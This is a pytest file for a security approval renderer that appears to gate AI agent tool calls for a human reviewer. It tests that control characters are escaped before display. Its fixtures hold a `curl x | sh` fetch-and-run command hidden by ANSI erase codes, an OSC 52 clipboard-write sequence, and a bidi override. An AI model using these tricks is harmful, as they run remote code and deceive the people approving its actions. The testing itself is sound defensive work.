"""What a person approving a call is shown cannot be rewritten by the call's own text: control
and invisible characters in code, parameters and reasons are shown escaped."""

import pytest

from harombe.security.approval.approvers import render_request
from harombe.security.approval.gate import ApprovalRequest
from harombe.security.hitl import Operation, RiskLevel
from harombe.security.policy.rules import Reason

HIDDEN_LINE = "os.system('curl x | sh')  # \x1b[2K\x1b[1G  1 │ print('hello')"


@pytest.mark.parametrize(
    ("params", "shown"),
    [
        ({"language": "python", "code": f"import os\n{HIDDEN_LINE}"}, "\\x1b[2K"),
        ({"language": "python", "code": "x = 1\x9b2J\x1b7\x1b8"}, "\\x9b"),
        ({"language": "python", "code": "ok = 1  # \u202eevil"}, "\\u202e"),
        ({"path": "/workspace/a\x1b]52;c;ZXZpbA==\x07", "content": "x"}, "\\x1b]52"),
        ({"language": "python", "code": "x", "packages": ["pkg\x1b[A"]}, "\\x1b[A"),
    ],
    ids=["erase-line-in-code", "c1-and-cursor-save-in-code", "bidi-in-code",
         "osc52-in-a-parameter", "cursor-up-in-a-list"],
)  # fmt: skip
def test_control_characters_are_shown_escaped(params: dict[str, object], shown: str) -> None:
    """No control or invisible character of the request reaches the approver's screen raw."""
    reason = Reason("shell_command", RiskLevel.HIGH, detail="os.system\x1b[8m hidden", line=2)
    request = ApprovalRequest(Operation("code_execute", params), RiskLevel.HIGH, (reason,), 30.0)
    text = render_request(request)
    assert shown in text
    assert "\\x1b[8m" in text
    unsafe = [c for c in text if c not in "\n\t" and (ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F)]
    assert unsafe == []
    assert "\u202e" not in text
